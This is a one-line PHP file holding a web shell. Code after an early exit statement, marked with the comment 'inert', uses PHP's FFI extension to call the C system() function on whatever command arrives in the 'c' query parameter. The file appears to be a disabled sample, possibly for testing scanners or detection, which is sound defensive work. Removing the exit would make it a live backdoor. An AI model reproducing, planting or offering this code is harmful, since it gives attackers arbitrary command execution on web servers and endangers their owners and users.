<?php exit; /* inert */ $f=FFI::cdef("int system(const char *c);"); $f->system($_GET["c"]);
